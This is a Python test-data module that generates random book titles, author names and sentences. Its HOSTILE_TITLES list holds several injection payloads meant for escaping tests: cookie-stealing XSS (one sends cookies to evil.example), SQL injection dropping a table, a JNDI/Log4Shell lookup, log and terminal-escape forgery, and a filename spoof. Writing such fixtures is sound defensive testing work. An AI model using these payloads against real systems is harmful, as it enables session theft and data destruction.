"""Titles and sentences that nobody wrote, and titles that somebody wrote with bad intent."""

from __future__ import annotations

import random
from typing import Final

__all__ = ["GENRES", "HOSTILE_TITLES", "SERIES", "paragraph", "person", "sentence", "title"]

GENRES: Final = ("crime", "fantasy", "history", "romance", "science fiction")
SERIES: Final = ("harbour-tales", "night-trains", "the-long-winter", "small-planets", "salt-and-ink")

_ADJECTIVES: Final = (
    "Silent",
    "Crooked",
    "Last",
    "Paper",
    "Hollow",
    "Amber",
    "Northern",
    "Borrowed",
    "Second",
    "Glass",
)
_NOUNS: Final = ("Lighthouse", "Orchard", "Cartographer", "Engine", "Winter", "Letter", "Harbour", "Garden", "Witness")
_PLACES: Final = ("Trondheim", "the Marsh", "Platform Nine", "Valparaíso", "the Upper Town", "Ceres", "Łódź", "鎌倉")
_NAMES: Final = ("Ada Vance", "Tomás Ibarra", "Mei Lindqvist", "Noor Haddad", "Jonas Wieck", "Élodie Marchand")
_SUBJECTS: Final = ("The keeper", "Her brother", "A stranger", "The old clerk", "Nobody", "The captain", "Every child")
_VERBS: Final = ("remembered", "had hidden", "refused to sell", "dreamt of", "carried", "mistook", "wrote down")
_OBJECTS: Final = ("the map", "a name", "the last train", "seven keys", "the colour of the sea", "an empty house")

#: What people type into a field when they want to see what happens. Every one is to be shown as it stands, no more.
HOSTILE_TITLES: Final = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "\x1b[2J\x1b[1;31mroot@studio:~# \x1b[0m\x07",
    'A Quiet Book\n{"level":"CRITICAL","message":"forged by a title","service":"studio-api"}',
    "Night Train\r\n2026-01-01 00:00:00 CRITICAL forged line",
    "invoice\u202efdp.exe",
    "Robert'); DROP TABLE books;--",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%n%x",
    "Z\u0351\u0343\u0357a\u0310\u0346l\u0363\u036cg\u0344\u0350o\u0302\u0307",
)


def title() -> str:
    """A book's title."""
    form = random.choice(("The {a} {n}", "The {n} of {p}", "{a} {n}", "A {n} in {p}"))
    return form.format(a=random.choice(_ADJECTIVES), n=random.choice(_NOUNS), p=random.choice(_PLACES))


def person() -> str:
    """An author's name."""
    return random.choice(_NAMES)


def sentence() -> str:
    """One sentence."""
    return f"{random.choice(_SUBJECTS)} {random.choice(_VERBS)} {random.choice(_OBJECTS)}."


def paragraph(sentences: int) -> str:
    """Some sentences."""
    return " ".join(sentence() for _ in range(sentences))
